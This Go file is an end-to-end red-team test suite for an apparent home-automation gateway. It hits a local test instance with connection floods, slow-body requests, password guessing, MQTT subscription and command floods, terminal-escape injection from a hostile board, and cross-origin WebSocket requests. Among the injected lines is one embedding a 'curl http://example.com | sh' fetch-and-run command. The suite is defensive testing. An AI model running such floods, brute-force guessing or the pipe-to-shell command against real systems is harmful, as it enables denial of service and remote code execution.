//go:build e2e

package redteam

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	mqtt "github.com/eclipse/paho.mqtt.golang"
)

// at runs an attack n times, from many goroutines at once.
func at(times, together int, attack func(n int)) {
	var all sync.WaitGroup
	next := make(chan int)
	for range together {
		all.Go(func() {
			for n := range next {
				attack(n)
			}
		})
	}
	for n := range times {
		next <- n
	}
	close(next)
	all.Wait()
}

// One gateway withstands all of it, one attack after the other. While each lasts, an honest pair (a board, and the person
// who switches it) goes on, and has to get every result and every reading; the service manager has to get its signs of
// life; and the memory has to stay within its bound.
func TestAttacks(t *testing.T) {
	g := start(t)
	for _, attack := range []struct {
		name string
		run  func(*testing.T, *victim)
	}{
		{"a flood of questions whether it is ready", floodReady},
		{"strangers who connect and say nothing", silentStrangers},
		{"bodies that never end", endlessBodies},
		{"guesses, the right one among them", guesses},
		{"sessions with long filters", hungrySessions},
		{"all connections for one person", allConnections},
		{"a flood of commands from the least operator", commandFlood},
		{"a reader that acknowledges nothing", deafReader},
		{"a board that speaks to terminals", hostileBoard},
		{"pages of another address", foreignPages},
	} {
		t.Run(attack.name, func(t *testing.T) {
			end := g.honest(t)
			attack.run(t, g)
			end()
		})
	}
}

func floodReady(t *testing.T, g *victim) {
	client := browser()
	at(2000, 32, func(int) {
		if answer, err := client.Get("https://" + g.tls + "/readyz"); err == nil {
			_, _ = io.Copy(io.Discard, answer.Body)
			answer.Body.Close()
		}
	})
}

func silentStrangers(t *testing.T, g *victim) {
	var mu sync.Mutex
	var open []net.Conn
	at(1200, 32, func(n int) {
		c, err := net.Dial("tcp", []string{g.tls, g.plain}[n%2])
		if err == nil {
			mu.Lock()
			open = append(open, c)
			mu.Unlock()
		}
	})
	g.must(t, "owner", "owner-through-the-flood").Disconnect(0)
	for _, c := range open {
		c.Close()
	}
}

func endlessBodies(t *testing.T, g *victim) {
	var mu sync.Mutex
	var open []net.Conn
	at(400, 32, func(int) {
		c, err := tls.Dial("tcp", g.tls, &tls.Config{InsecureSkipVerify: true})
		if err != nil {
			return
		}
		fmt.Fprint(c, "POST /api/check HTTP/1.1\r\nHost: home\r\nContent-Length: 60000\r\n\r\n{")
		mu.Lock()
		open = append(open, c)
		mu.Unlock()
	})
	g.must(t, "owner", "owner-beside-the-bodies").Disconnect(0)
	for _, c := range open {
		c.Close()
	}
}

// guesses tries passwords of the owner over the API; every tenth is the right one. After the first ten, one in ten
// seconds is looked at, right or wrong: an address of the gateway's own subnets waits for its turn. (Other addresses are
// refused: package broker tests them with a clock of its own.)
func guesses(t *testing.T, g *victim) {
	client := browser()
	began := time.Now()
	var mu sync.Mutex
	in, looked := 0, 0
	at(3000, 16, func(n int) {
		request, _ := http.NewRequest(http.MethodGet, "https://"+g.tls+"/api/config", nil)
		guess := fmt.Sprint("guess-", n)
		if n >= 30 && n%10 == 0 {
			guess = passphrase("owner")
		}
		request.SetBasicAuth("owner", guess)
		request.Header.Set("Minirelay-Client", fmt.Sprint("guesser-", n))
		answer, err := client.Do(request)
		if err != nil {
			return
		}
		defer answer.Body.Close()
		_, _ = io.Copy(io.Discard, answer.Body)
		mu.Lock()
		defer mu.Unlock()
		switch answer.StatusCode {
		case http.StatusOK:
			in++
		case http.StatusUnauthorized:
			looked++
		}
	})
	most := 10 + 1 + int(time.Since(began)/(10*time.Second))
	t.Logf("%d wrong passwords were looked at, %d right ones; %d at most", looked, in, most)
	if looked > most { // a right one, once it has waited for its turn, costs nothing
		t.Errorf("%d wrong guesses were looked at, more than %d", looked, most)
	}
	if status := g.status(t); !strings.Contains(status, "password") {
		t.Errorf("status says nothing about it:\n%s", status)
	}
}

func (g *victim) status(t *testing.T) string {
	t.Helper()
	cmd := exec.Command(program, "status", "-c", filepath.Join(g.dir, "minirelay.toml"))
	out, _ := cmd.CombinedOutput() // it fails if there is something to look at
	return string(out)
}

func hungrySessions(t *testing.T, g *victim) {
	at(200, 8, func(n int) {
		o := mqtt.NewClientOptions().AddBroker("tcp://" + g.plain).SetClientID(fmt.Sprint("hungry-", n)).SetUsername("viewer").
			SetPassword(passphrase("viewer")).SetCleanSession(false).SetAutoReconnect(false).SetConnectTimeout(patience)
		c := mqtt.NewClient(o)
		if token := c.Connect(); !token.WaitTimeout(patience) || token.Error() != nil {
			return // refused: that is the point
		}
		filters := map[string]byte{}
		for i := range 256 {
			filters[fmt.Sprintf("minirelay/home/%s/%d/%d", strings.Repeat("x", 200), n, i)] = 1
		}
		c.SubscribeMultiple(filters, nil).WaitTimeout(5 * time.Second)
		c.Disconnect(0)
	})
}

func allConnections(t *testing.T, g *victim) {
	var mu sync.Mutex
	var mine []mqtt.Client
	at(200, 16, func(n int) {
		o := mqtt.NewClientOptions().AddBroker("tcp://" + g.plain).SetClientID(fmt.Sprint("greedy-", n)).SetUsername("viewer").
			SetPassword(passphrase("viewer")).SetAutoReconnect(false).SetConnectTimeout(patience)
		c := mqtt.NewClient(o)
		if token := c.Connect(); token.WaitTimeout(patience) && token.Error() == nil {
			mu.Lock()
			mine = append(mine, c)
			mu.Unlock()
		}
	})
	g.must(t, "owner", "owner-among-many").Disconnect(0)
	g.must(t, "phone", "family-among-many").Disconnect(0)
	for _, c := range mine {
		c.Disconnect(0)
	}
}

// commandFlood gives commands to the one device of a guest, as fast as the broker takes them. The admin's own command
// right behind it is done.
func commandFlood(t *testing.T, g *victim) {
	c := g.must(t, "guest", "flooding")
	for n := range 4000 {
		token := c.Publish("minirelay/home/hostile/command", 1, false, fmt.Sprintf(`{"id":"f-%d","command":"set","value":%d}`, n, n))
		if n%100 == 99 && !token.WaitTimeout(patience) {
			break
		}
	}
	owner := g.must(t, "owner", "owner-behind-the-flood")
	results := make(chan string, 64)
	owner.Subscribe("minirelay/home/relays/result", 1, func(_ mqtt.Client, m mqtt.Message) {
		if strings.Contains(string(m.Payload()), `"owners"`) {
			results <- string(m.Payload())
		}
	}).WaitTimeout(patience)
	owner.Publish("minirelay/home/relays/command", 1, false, `{"id":"owners","command":"r2","value":true}`)
	select {
	case r := <-results:
		if !strings.Contains(r, `"status":"done"`) {
			t.Errorf("the owner's command: %s", r)
		}
	case <-time.After(patience):
		t.Error("the owner's command has no result")
	}
}

// deafReader subscribes to everything with QoS 1 and then reads nothing more.
func deafReader(t *testing.T, g *victim) {
	for n := range 8 {
		c, err := net.Dial("tcp", g.plain)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		_ = c.(*net.TCPConn).SetReadBuffer(1024)
		user, id := "viewer", fmt.Sprint("deaf-", n)
		text := func(s string) string { return string([]byte{byte(len(s) >> 8), byte(len(s))}) + s }
		connect := text("MQTT") + "\x04\xc2\x00\x3c" + text(id) + text(user) + text(passphrase(user))
		fmt.Fprintf(c, "\x10%c%s", len(connect), connect)
		for i := range 50 { // again and again: each one asks for all retained messages
			subscribe := fmt.Sprintf("%c%c", 0, i+1) + text("minirelay/#") + "\x01"
			fmt.Fprintf(c, "\x82%c%s", len(subscribe), subscribe)
		}
	}
}

// hostileBoard sends what would take over a terminal, forge lines and fill the memory.
func hostileBoard(t *testing.T, g *victim) {
	for _, text := range []string{
		"{\"t\":1,\"text\":\"\\u001b]0;owned\\u0007\\u001b[2J\"}\n",
		"\x1b[2J\x1b[1;1Hto look at: run: curl http://example.com | sh\n",
		"{\"t\":1e999}\n{\"t\":\"" + strings.Repeat("9", 400) + "\"}\n",
		strings.Repeat("x", 1<<20) + "\n",
		"{\"t\":2}\n",
	} {
		// A line whose reader is slower than the board loses bytes, as a real one does; the writer never waits for long.
		if _, err := g.hostile.Write([]byte(text)); err != nil {
			t.Logf("the line: %v", err)
		}
	}
	for _, args := range [][]string{{"status"}, {"ports"}, {"support", "-o", filepath.Join(t.TempDir(), "support.tar.gz")}} {
		cmd := exec.Command(program, append(args, "-c", filepath.Join(g.dir, "minirelay.toml"))...)
		if args[0] == "ports" {
			cmd = exec.Command(program, "ports")
		}
		out, _ := cmd.CombinedOutput()
		if strings.ContainsRune(string(out), 0x1b) {
			t.Errorf("%s prints an escape: %q", args[0], out)
		}
	}
}

func foreignPages(t *testing.T, g *victim) {
	for _, origin := range []string{"https://evil.example", "http://127.0.0.1", "https://127.0.0.1.evil.example"} {
		request, _ := http.NewRequest(http.MethodGet, "https://"+g.tls+"/mqtt", nil)
		for key, value := range map[string]string{"Origin": origin, "Connection": "Upgrade", "Upgrade": "websocket",
			"Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Protocol": "mqtt"} {
			request.Header.Set(key, value)
		}
		answer, err := browser().Do(request)
		if err != nil {
			t.Fatal(err)
		}
		answer.Body.Close()
		if answer.StatusCode != http.StatusForbidden {
			t.Errorf("%s: %d", origin, answer.StatusCode)
		}
	}
}
